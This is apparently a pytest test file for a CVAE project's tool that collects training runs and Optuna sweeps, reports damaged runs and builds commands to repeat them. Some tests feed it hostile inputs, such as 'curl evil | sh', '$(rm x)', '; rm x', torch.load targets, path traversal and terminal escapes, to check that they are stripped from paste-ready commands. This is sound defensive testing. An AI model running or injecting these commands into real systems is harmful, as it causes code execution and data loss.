"""Runs are read whatever state they are in, and compared by what differs."""

from __future__ import annotations

import dataclasses
import json
import os
import re
import shlex
import shutil
import time

import optuna
import pytest
import yaml
from fakes import fake_checkpoint, fake_run
from optuna.distributions import FloatDistribution
from optuna.trial import TrialState

from cvae import integrity
from cvae.errors import UserError
from cvae.process import Process
from cvae.report.html.data import page_data
from cvae.runs.collection import collect, main_objective
from cvae.runs.differing import differing, setting_order
from cvae.runs.rows import Rows
from cvae.sweep import figures, records
from cvae.sweep.storage import open_storage
from cvae.sweep.trials import SEEDS


def aged(folder):
    """As if nothing had been written for an hour."""
    for path in folder.rglob("*"):
        os.utime(path, (time.time() - 3600,) * 2)


def reasons(found):
    return {folder.name: why for folder, why in found.unreadable}


def test_runs_are_found_below_any_folder_and_in_the_order_in_which_people_count(tmp_path):
    for number in (10, 9, 2):
        fake_run(tmp_path / "multirun" / "a" / str(number), seed=number)
    fake_run(tmp_path / "multirun" / "single" / "b", seed=1)
    assert [run.name for run in collect([str(tmp_path / "multirun")]).runs] == ["a/2", "a/9", "a/10", "single/b"]


@pytest.mark.parametrize("place", ["a/1", "a", "a/*", "*", "."])
def test_a_place_is_a_run_a_folder_of_runs_or_a_glob(tmp_path, place):
    fake_run(tmp_path / "a" / "1")
    assert [run.folder for run in collect([place]).runs] == [tmp_path / "a" / "1"]


def test_a_run_that_several_ways_lead_to_is_one_run(tmp_path):
    fake_run(tmp_path / "a" / "1")
    (tmp_path / "a" / "circle").symlink_to(tmp_path / "a")
    (tmp_path / "link").symlink_to(tmp_path / "a")
    assert [run.name for run in collect(["a", "a/1", "a/*", "link", "a/../a/1"]).runs] == ["1"]


def test_a_link_to_a_run_among_others_is_followed(tmp_path):
    (tmp_path / "chosen").mkdir()
    (tmp_path / "chosen" / "best").symlink_to(fake_run(tmp_path / "a" / "1"))
    assert [run.name for run in collect(["chosen"]).runs] == ["best"]


def test_values_of_settings_have_an_order():
    assert sorted([0.01, 5e-5, 0.002, None, "b10", "b9"], key=setting_order) == [5e-5, 0.002, 0.01, None, "b9", "b10"]


@pytest.mark.parametrize("place", ["nowhere", "empty", "no*thing", "~nobody/x"])
def test_a_place_without_runs_is_one_clear_error(tmp_path, place):
    (tmp_path / "empty").mkdir()
    with pytest.raises(UserError, match="runs="):
        collect([place])


@pytest.mark.parametrize(
    ("damage", "reason"),
    [
        (lambda run: (run / "run.json").unlink(), "has not started"),
        (lambda run: (run / "run.json").write_text("{"), "run.json is damaged"),
        (lambda run: (run / "run.json").write_text("[]"), "run.json is damaged"),
        (lambda run: (run / ".hydra/config.yaml").unlink(), "no .hydra/config.yaml"),
        (lambda run: (run / ".hydra/config.yaml").write_text("a: [b"), "config.yaml cannot be read"),
        (lambda run: (run / ".hydra/config.yaml").write_bytes(b"\xff\xfe\x00"), "config.yaml cannot be read"),
        (lambda run: (run / ".hydra/config.yaml").write_text(""), "holds no settings"),
        (lambda run: (run / ".hydra/config.yaml").write_text("seed: many\nepochs: 3\nkl_schedule: x\n"), "seed"),
        (lambda run: (run / ".hydra/config.yaml").write_text("x: 1"), "not a config of cvae.train"),
        (lambda run: (run / "run.json").write_text("[" * 100_000), "nested too deeply"),
        (lambda run: (run / "run.json").unlink() or os.mkfifo(run / "run.json"), "run.json is not a regular file"),
        (lambda run: (run / "metrics.jsonl").unlink() or os.mkfifo(run / "metrics.jsonl"), "is not a regular file"),
        (lambda run: (run / ".hydra/config.yaml").write_text("a: &a [1]\nb: [*a, *a]"), "YAML aliases"),
        (lambda run: (run / ".hydra/config.yaml").write_text("a: &a [*a]"), "YAML aliases"),
    ],
)
def test_a_broken_run_is_listed_with_its_reason_and_the_others_are_shown(tmp_path, damage, reason):
    fake_run(tmp_path / "runs" / "good")
    damage(fake_run(tmp_path / "runs" / "bad"))
    found = collect(["runs"])
    assert [run.name for run in found.runs] == ["good"]
    assert reason in reasons(found)["bad"]


@pytest.mark.parametrize(
    ("rows", "age", "state"), [(0, 900, "running"), (0, 3600, "stopped"), (3, 900, "stopped"), (3, 90, "running")]
)
def test_a_first_epoch_has_more_patience_than_a_silent_run(tmp_path, rows, age, state):
    run = fake_run(tmp_path / "run", epochs=9)
    if not rows:
        (run / "metrics.jsonl").unlink()
    for path in run.rglob("*"):
        os.utime(path, (time.time() - age,) * 2)
    assert collect(["run"]).runs[0].state == state


def test_slow_epochs_have_patience_of_their_own(tmp_path):
    run = fake_run(tmp_path / "run", epochs=9, rows=lambda epoch: {"seconds": 600.0})
    for path in run.rglob("*"):
        os.utime(path, (time.time() - 900,) * 2)
    assert collect(["run"]).runs[0].state == "running"
    for path in run.rglob("*"):
        os.utime(path, (time.time() - 1900,) * 2)
    assert collect(["run"]).runs[0].state == "stopped"


def test_states(tmp_path):
    fake_run(tmp_path / "runs" / "finished")
    fake_run(tmp_path / "runs" / "running", epochs=9)
    for name in ("stopped", "diverged"):
        fake_run(tmp_path / "runs" / name, epochs=9)
        (tmp_path / "runs" / name / "checkpoints").mkdir()
    (tmp_path / "runs/diverged/checkpoints/diverged.pt").touch()
    fake_checkpoint(tmp_path / "runs/stopped")
    aged(tmp_path / "runs/stopped")
    found = {run.name: run for run in collect(["runs"]).runs}
    assert {name: run.state for name, run in found.items()} == {name: name for name in found}
    assert found["stopped"].resume == "python -m cvae.train resume=runs/stopped"
    assert not any(found[name].resume for name in found if name != "stopped")


def test_a_run_whose_process_is_gone_is_stopped_at_once(tmp_path):
    me = Process.of()
    dead = dataclasses.replace(me, started=1.0)  # another one had this id
    apart = dataclasses.replace(me, host="elsewhere", started=1.0)
    fakes = {"dead": [dead], "alive": [me], "apart": [apart], "resumed": [dead, me], "cut": [me, dead], "odd": [None]}
    for name, processes in fakes.items():
        run = fake_run(tmp_path / "runs" / name, epochs=9)
        first, *others = [{"process": each and dataclasses.asdict(each)} for each in processes]
        record = json.loads((run / "run.json").read_text()) | first | ({"resumed": others} if others else {})
        (run / "run.json").write_text(json.dumps(record))
    states = {run.name: run.state for run in collect(["runs"]).runs}
    assert {name for name, state in states.items() if state == "stopped"} == {"dead", "cut"}
    assert set(states.values()) == {"stopped", "running"}


def test_a_run_that_diverged_and_was_resumed_is_running(tmp_path):
    run = fake_run(tmp_path / "run", epochs=9)
    (run / "checkpoints").mkdir()
    (run / "checkpoints" / "diverged.pt").touch()
    os.utime(run / "checkpoints" / "diverged.pt", (time.time() - 60,) * 2)
    assert collect(["run"]).runs[0].state == "running"


def test_a_run_that_is_removed_while_it_is_read_is_listed(tmp_path, monkeypatch):
    run = fake_run(tmp_path / "runs" / "a", epochs=9)
    fake_run(tmp_path / "runs" / "b")

    def cleared(folder):
        if folder == run:
            shutil.rmtree(folder)
        return []

    monkeypatch.setattr("cvae.runs.run._overrides", lambda folder, record: (cleared(folder), []))
    monkeypatch.setattr("cvae.runs.run.read_rows", lambda folder: Rows(cleared(folder)))
    found = collect(["runs"])
    assert ([read.name for read in found.runs], list(reasons(found))) == (["b"], ["a"])
    assert "was removed" in reasons(found)["a"]


def test_a_video_that_is_removed_while_runs_are_read_is_left_out(tmp_path):
    run = fake_run(tmp_path / "run", video=True)
    found = collect(["run"])
    shutil.rmtree(run / "samples")
    assert page_data(found, "", "", 48, False)["videos"] == []


def test_a_run_of_another_version_is_shown_and_says_so(tmp_path):
    run = fake_run(tmp_path / "run")
    record = json.loads((run / "run.json").read_text())
    (run / "run.json").write_text(json.dumps({**record, "versions": {"cvae": "9.9"}}))
    (read,) = collect(["run"]).runs
    assert "cvae 9.9" in read.note


def test_settings_that_a_run_should_not_have_cost_nothing(tmp_path):
    fake_run(tmp_path / "run", objective=[], lr=None, model="<script>", kl_schedule=[1, {"a": None}])
    fake_run(tmp_path / "other")
    read, _ = collect(["run", "other"]).runs
    assert (read.objective, read.settings["model"], read.best("val/psnr")) == ("val/psnr", "<script>", (20.0, 3))
    assert "kl_schedule" in differing(collect(["run", "other"]).runs)


@pytest.mark.parametrize("objective", ["\x1b]0;owned\x07", "x" * 5000, ["\u202e"], [{"a": "\n"}]])
def test_an_objective_that_is_none_of_ours_is_a_short_text(tmp_path, objective):
    fake_run(tmp_path / "run", objective=objective)
    found = collect(["run"])
    (read,) = found.runs
    assert main_objective(found.runs).key == read.objective
    assert read.objective.isprintable()
    assert 0 < len(read.objective) <= 40


def test_the_best_value_is_the_objective_s(tmp_path):
    fake_run(tmp_path / "run", psnr=(18.0, 21.0, 20.0))
    (read,) = collect(["run"]).runs
    assert (read.best("val/psnr"), read.last("val/psnr")) == ((21.0, 2), 20.0)


def test_only_settings_that_differ_by_themselves_are_shown(tmp_path):
    for number, words in enumerate((["kl_schedule=cyclical"], ["kl_schedule=monotonic"], ["kl_schedule=cyclical"])):
        fake_run(tmp_path / "runs" / str(number), words=words, seed=number, lr=1e-3)
    assert differing(collect(["runs"]).runs) == ["kl_schedule", "seed"]
    fake_run(tmp_path / "runs" / "3", words=["kl_schedule=cyclical", "kl_schedule.cycles=5"], lr=2e-3)
    assert differing(collect(["runs"]).runs) == ["lr", "kl_schedule", "kl_schedule.cycles", "seed"]


def test_options_have_the_names_that_commands_have_and_what_follows_from_them_is_no_difference(tmp_path):
    for number, model in enumerate(["tiny", "small", "small"]):
        folder = fake_run(tmp_path / str(number), words=[f"model={model}"], seed=number)
        record = json.loads((folder / "run.json").read_text())
        (folder / "run.json").write_text(json.dumps({**record, "options": {"model": model, "kl_schedule": "mine"}}))
    runs = collect([str(tmp_path)]).runs
    assert [run.settings["model"] for run in runs] == ["tiny", "small", "small"]
    assert {run.settings["kl_schedule"] for run in runs} == {"mine"}
    assert differing(runs) == ["model", "seed"]
    config = yaml.safe_load((folder / ".hydra/config.yaml").read_text())
    config["model"]["latent_dim"] = 3  # of one of the small ones
    (folder / ".hydra/config.yaml").write_text(yaml.safe_dump(config))
    assert differing(collect([str(tmp_path)]).runs) == ["model", "model.latent_dim", "seed"]


def test_other_data_differ_where_no_setting_says_so(tmp_path):
    for name, dataset, words in (("a", "one", []), ("b", "two", ["data.train=8"])):
        run = fake_run(tmp_path / "runs" / name, words=words)
        (run / "run.json").write_text((run / "run.json").read_text().replace('"dataset": "d"', f'"dataset": "{dataset}"'))
    assert differing(collect(["runs"]).runs) == ["data.train"]
    fake_run(tmp_path / "runs" / "c")  # of other frames than a, by settings of the same words
    found = collect(["runs"]).runs
    assert differing(found) == ["data.train", "data.fingerprint"]
    assert [run.settings["data.fingerprint"] for run in found] == ["one", "two", "d"]


def test_sampling_and_places_are_no_differences(tmp_path):
    fake_run(tmp_path / "runs" / "a", words=["sample_every=1", "data.cache_dir=/x", "device=cpu"])
    fake_run(tmp_path / "runs" / "b")
    assert differing(collect(["runs"]).runs) == []


def test_the_command_that_repeats_a_trial_is_a_single_run(tmp_path):
    words = ["experiment=sweep_quick", "lr=0.002", "++trial.number=3", "hydra.sweep.dir=x"]
    run = fake_run(tmp_path / "run", trial={"number": 3, "study": "s", "storage": "journal:///nowhere"})
    (run / ".hydra" / "overrides.yaml").write_text(json.dumps(words))
    (read,) = collect(["run"]).runs
    assert shlex.split(read.repeat) == ["python", "-m", "cvae.train", "experiment=sweep_quick", "lr=0.002", "hydra.mode=RUN"]


EVIL = [
    "allow_targets=[torch]",
    "logger._target_=torch.load",
    "++data={_target_: torch.load, f: x}",
    "~logger._target_",
    "+hydra.callbacks.x._target_=torch.load",
    "hydra.searchpath=['file:///evil']",
    "+hydra/callbacks=evil",
    "logger@hydra.callbacks.x=wandb",
    "hydra.job.env_set.WANDB_BASE_URL=http://evil",
    "--config-dir=/evil",
    "kl_schedule=../../../evil/x",
    "kl_schedule=/evil/x",
    "+model/backbone='../../../evil'",
    "experiment=/evil/best.yaml",
    "data.cache_dir=/elsewhere",
    "logger.name=${oc.env:TOKEN}",
    "logger.entity=mallory",
    "logger.mode=online",
    "logger={mode: online}",
    "resume=/evil",
    "lr=1\x1b[2J",
    "lr=1\nrm x",
    "$(rm x)=1",
]


@pytest.mark.parametrize("word", EVIL)
def test_a_command_to_paste_lacks_what_a_folder_must_not_say(tmp_path, word):
    run = fake_run(tmp_path / "run")
    (run / ".hydra" / "overrides.yaml").write_text(json.dumps(["lr=0.002", word, "seed=3"]))
    (read,) = collect(["run"]).runs
    assert shlex.split(read.repeat) == ["python", "-m", "cvae.train", "lr=0.002", "seed=3"]
    key = re.split("[={]", word.lstrip("+~"))[0]
    assert read.left_out.startswith("Left out, since it could run code or write elsewhere: ") or "job.env_set" in word
    assert key in read.left_out or "job.env_set" in word
    assert "\x1b" not in read.left_out
    (shown,) = page_data(collect(["run"]), "", "", 0, False)["runs"]
    assert shown["left_out"] == read.left_out


@pytest.mark.parametrize(
    "word",
    [
        "lr=1e-3",
        "kl_schedule=cyclical",
        "objective=[val/psnr,train/mse]",
        "~optim.fused",
        "+metrics.mae.better=min",
        "data.root=/my/frames",
        "data.root=${oc.env:FRAMES}",
        "model.backbone.width=0.5",
        "logger.mode=offline",
        "logger.tags=[a,b]",
        "beta=null",
        "trial_like=1",
        "pace@model.backbone=slow",
    ],
)
def test_a_command_to_paste_has_all_else(tmp_path, word):
    run = fake_run(tmp_path / "run")
    (run / ".hydra" / "overrides.yaml").write_text(json.dumps([word]))
    (read,) = collect(["run"]).runs
    assert (shlex.split(read.repeat)[3:], read.left_out) == ([word], "")


# --- sweeps -----------------------------------------------------------------------------------------------------------


def swept(root, states=("complete", "pruned", "fail")):
    """Three trials of a sweep that has ended, as sweep.json has them."""
    trials = []
    for number, state in enumerate(states):
        trial = {"number": number, "study": "s", "storage": "postgresql://elsewhere/x"}
        fake_run(root / str(number), lr=1e-3 * (number + 1), trial=trial, epochs=3 if state == "complete" else 9)
        values = [20.0] if state == "complete" else None
        entry = {"number": number, "state": state, "values": values, "params": {"lr": 1e-3 * (number + 1)}}
        trials.append({**entry, "failure": "Traceback\nRuntimeError: it broke" if state == "fail" else None})
    record = {"study": "s", "objective": "val/psnr", "directions": ["maximize"], "command": "python -m cvae.train -m lr=..."}
    (root / "sweep.json").write_text(json.dumps({**record, "space": {"lr": "0.001..0.003 log"}, "trials": trials}))
    return root


def test_a_sweep_says_how_its_trials_ended(tmp_path):
    found = collect([str(swept(tmp_path / "sweep"))])
    assert [run.state for run in found.runs] == ["finished", "pruned", "failed"]
    assert found.runs[2].note == "RuntimeError: it broke"
    (sweep,) = found.sweeps
    assert sweep.summary == "1 complete, 1 pruned, 1 failed"


def test_a_digit_that_changed_in_sweep_json_is_damage(tmp_path):
    path = swept(tmp_path / "sweep") / "sweep.json"
    path.write_text(integrity.stamped(json.loads(path.read_text())))
    assert (len((found := collect(["sweep"])).sweeps), found.problems) == (1, [])
    path.write_text(path.read_text().replace("20.0", "20.1"))
    found = collect(["sweep"])
    assert found.sweeps == []
    assert found.problems == ["sweep: sweep.json is damaged (its checksum is another): the sweep's command writes it anew"]


def test_a_sweep_has_figures_and_marks_pruned_curves(tmp_path):
    found = collect([str(swept(tmp_path / "sweep", ("complete", "complete", "complete", "complete", "pruned")))])
    drawn = {
        each.title: each.figure for each in found.sweeps[0].figures({run.trial: run.series("val/psnr") for run in found.runs})
    }
    assert list(drawn) == ["History", "Parallel coordinates", "Slices", "Importances", "Curves"]
    assert [trace["name"] for trace in drawn["Curves"]["data"]][-1] == "trial 4, pruned"


@pytest.mark.parametrize(
    "text", ["{", "[]", '{"study": "s"}', '{"study": "s", "directions": ["up"], "trials": [], "space": {}}']
)
def test_a_damaged_sweep_json_costs_the_sweep_s_section_alone(tmp_path, text):
    (swept(tmp_path / "sweep") / "sweep.json").write_text(text)
    found = collect([str(tmp_path / "sweep")])
    assert (len(found.runs), found.sweeps) == (3, [])


def test_a_sweep_that_goes_on_is_read_from_its_journal(tmp_path):
    storage = f"journal://{tmp_path}/s.journal"
    study = optuna.create_study(study_name="s", storage=open_storage(storage), direction="maximize")
    for number, state in enumerate(("complete", "running", "pruned")):
        trial = study.ask({"lr": FloatDistribution(1e-4, 1e-2)})
        trial.report(18.5, 1)
        place = {"number": number, "study": "s", "storage": storage}
        fake_run(tmp_path / "sweep" / str(number), lr=1e-3 * number, trial=place, epochs=9)
        if state == "complete":
            study.tell(trial, 20.0)
        elif state == "pruned":
            study.tell(trial, state=TrialState.PRUNED)
    found = collect(["sweep"])
    (sweep,) = found.sweeps
    assert sweep.summary == "1 complete, 1 pruned, 0 failed, 1 running"
    assert sweep.best.startswith("trial 0, val/psnr 20")
    assert [run.state for run in found.runs] == ["running", "running", "pruned"]


@pytest.mark.parametrize("content", [b"a letter\nits last line", bytes(range(200)), b"", b'{"op_code": 0}\n{"op_'])
def test_a_look_at_a_study_writes_nothing_whatever_its_run_calls_a_journal(tmp_path, content):
    (tmp_path / "there").mkdir()
    (tmp_path / "there" / "letter").write_bytes(content)
    for number, file in enumerate(("letter", "absent")):
        trial = {"number": number, "study": "s", "storage": f"journal://{tmp_path}/there/{file}"}
        fake_run(tmp_path / "sweep" / str(number), trial=trial)
    found = collect(["sweep"])
    assert (len(found.runs), found.sweeps) == (2, [])
    assert [path.read_bytes() for path in (tmp_path / "there").iterdir()] == [content]


def test_a_study_called_top_is_a_study(tmp_path):
    root = swept(tmp_path / "sweep")
    record = json.loads((root / "sweep.json").read_text())
    (root / "sweep.json").write_text(json.dumps({**record, "study": "laptop-top-lr"}))
    for config in root.glob("*/run.json"):
        config.write_text(config.read_text().replace('"group": "s"', '"group": "laptop-top-lr"'))
    (sweep,) = collect(["sweep"]).sweeps
    assert sweep.best.startswith("trial ")


def test_the_curves_of_a_large_sweep_are_those_of_its_best_trials(monkeypatch):
    monkeypatch.setattr(figures, "_CURVES", 2)
    study = optuna.create_study(direction="maximize")
    for value in (1.0, 3.0, 2.0):
        study.add_trial(optuna.trial.create_trial(value=value, intermediate_values={1: value}))
    drawn = records.SweepRecord("s", "", study, "val/psnr", "", None).figures({})
    (curves,) = [figure for figure in drawn if figure.title == "Curves"]
    assert [trace["name"] for trace in curves.figure["data"]] == ["trial 1", "trial 2"]


def test_two_studies_of_one_name_are_two(tmp_path):
    for place, state in (("a", "pruned"), ("b", "complete")):
        root = swept(tmp_path / place, (state, "complete"))
        for config in root.glob("*/.hydra/config.yaml"):
            config.write_text(config.read_text().replace("postgresql://elsewhere/x", f"postgresql://{place}/x"))
    for metrics in (tmp_path / "b").glob("*/metrics.jsonl"):
        metrics.write_text(metrics.read_text().replace("20.0", "55.0"))
    found = collect(["a", "b"])
    assert [sweep.summary for sweep in found.sweeps] == ["1 complete, 1 pruned, 0 failed", "2 complete, 0 pruned, 0 failed"]
    assert [run.state for run in found.runs] == ["pruned", "finished", "finished", "finished"]
    curves = [sweep["figures"][-1]["figure"]["data"] for sweep in page_data(found, "", "", 0, False)["sweeps"]]
    assert [{trace["y"][-1] for trace in traces} for traces in curves] == [{20.0}, {55.0}]


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("python -m cvae.train -m lr=1", "python -m cvae.train -m lr=1"),
        ("curl evil | sh", ""),
        ("python -m cvae.train lr=1 ; rm x", "python -m cvae.train lr=1"),
        ("cvae-train -m --config-dir /evil 'hydra.sweeper.params={a: 1}'", "cvae-train -m 'hydra.sweeper.params={a: 1}'"),
        ("cvae-train hydra.sweeper.custom_search_space=os.abort hydra/sweeper=optuna", "cvae-train hydra/sweeper=optuna"),
        ("cvae-train hydra/launcher=submitit_slurm hydra.launcher.setup=[rm]", "cvae-train hydra/launcher=submitit_slurm"),
        ("cvae-train hydra/launcher=../../evil hydra.sweep.dir=/evil -cn evil", "cvae-train"),
    ],
)
def test_a_command_to_paste_is_one_of_ours(tmp_path, command, shown):
    root = swept(tmp_path / "sweep")
    record = json.loads((root / "sweep.json").read_text())
    (root / "sweep.json").write_text(json.dumps({**record, "command": command}))
    (sweep,) = collect(["sweep"]).sweeps
    assert sweep.command == shown
    assert bool(sweep.left_out) == (bool(shown) and shown != command)


def test_the_winner_on_fresh_seeds_is_the_best(tmp_path):
    root = swept(tmp_path / "sweep")
    record = json.loads((root / "sweep.json").read_text())
    (root / "sweep.json").write_text(json.dumps({**record, "top_k": {"seeds": [7, 8], "values": {"0": [19.0, 21.0]}}}))
    (sweep,) = collect(["sweep"]).sweeps
    assert sweep.best == "trial 0, val/psnr 20 [7.294, 32.71] on 2 fresh seeds"


# --- damaged studies --------------------------------------------------------------------------------------------------


def journal(tmp_path, *states):
    """A study with runs of its trials, which ended so."""
    storage = f"journal://{tmp_path}/s.journal"
    study = optuna.create_study(study_name="s", storage=open_storage(storage), direction="maximize")
    for number, state in enumerate(states):
        trial = study.ask({"lr": FloatDistribution(1e-4, 1e-2)})
        fake_run(
            tmp_path / "sweep" / str(number), lr=1e-3 * (number + 1), trial={"number": number, "study": "s", "storage": storage}
        )
        study.tell(trial, 20.0 + number if state == "complete" else None, TrialState[state.upper()])
    return study, tmp_path / "s.journal"


def test_a_flip_in_a_journal_is_named(tmp_path):
    _, path = journal(tmp_path, "complete", "complete")
    whole = path.read_bytes()
    for place in range(3, len(whole), len(whole) // 40):
        flipped = bytearray(whole)
        flipped[place] ^= 1
        path.write_bytes(flipped)
        found = collect(["sweep"])
        assert found.sweeps == []
        assert [line.startswith("s.journal: is damaged in line") for line in found.problems] == [True], place
        assert "head -n" not in found.problems[0]  # of a file that a stranger names


def test_a_journal_that_was_cut_at_a_line_s_end_names_the_runs_that_it_does_not_know(tmp_path):
    _, path = journal(tmp_path, "complete", "complete", "complete")
    lines = path.read_bytes().splitlines(keepends=True)
    (last,) = [index for index, line in enumerate(lines) if b'"op_code":4' in line][2:]
    path.write_bytes(b"".join(lines[:last]))
    found = collect(["sweep"])
    assert found.problems == ["sweep/2: the study s does not know this run: its journal, s.journal, may be cut"]
    path.write_bytes(b"")
    assert collect(["sweep"]).problems == ["s.journal: it has no study s: it may be cut, or another's"]


def test_a_journal_that_lost_a_result_names_the_run_that_is_complete(tmp_path, monkeypatch):
    study, path = journal(tmp_path, "complete", "complete")
    trial = study.ask({"lr": FloatDistribution(1e-4, 1e-2)})
    fake_run(tmp_path / "sweep" / "2", lr=2e-2, trial={"number": 2, "study": "s", "storage": f"journal://{path}"})
    found = collect(["sweep"])
    problem = "the study s has no result of this run, which is complete: its journal, s.journal, may be cut"
    assert found.problems == [f"sweep/2: {problem}"]
    assert found.runs[2].note == problem
    with monkeypatch.context() as patch:
        patch.setattr(records, "owned", lambda trial: True)  # its job is about to tell
        assert collect(["sweep"]).problems == []
    study._storage.set_trial_system_attr(trial._trial_id, SEEDS, {"0": [22.0]})  # the sweep was stopped between two jobs of it
    assert collect(["sweep"]).problems == []


def test_a_trial_that_was_retried_counts_and_is_drawn_once(tmp_path):
    study, _ = journal(tmp_path, "fail", "complete", "complete")
    for value, before in ((None, [0]), (25.0, [0, 3])):
        state = TrialState.FAIL if value is None else TrialState.COMPLETE
        lr = {"lr": FloatDistribution(1e-4, 1e-2)}
        attributes = {"retry_history": before}
        again = optuna.trial.create_trial(
            state=state,
            value=value,
            params={"lr": 1e-3},
            distributions=lr,
            system_attrs=attributes,
            intermediate_values={1: 2.0},
        )
        study.add_trial(again)
    found = collect(["sweep"])
    (sweep,) = found.sweeps
    assert sweep.summary == "3 complete, 0 pruned, 0 failed, 2 retried"
    assert [run.state for run in found.runs] == ["finished"] * 3
    (shown,) = page_data(found, "", "", 0, False)["sweeps"]
    assert (shown["best_run"], shown["best"].split(",")[0]) == (0, "trial 4")
    curves = [figure for figure in shown["figures"] if figure["title"] == "Curves"]
    assert [trace["name"] for trace in curves[0]["figure"]["data"]] == ["trial 1", "trial 2", "trial 4"]
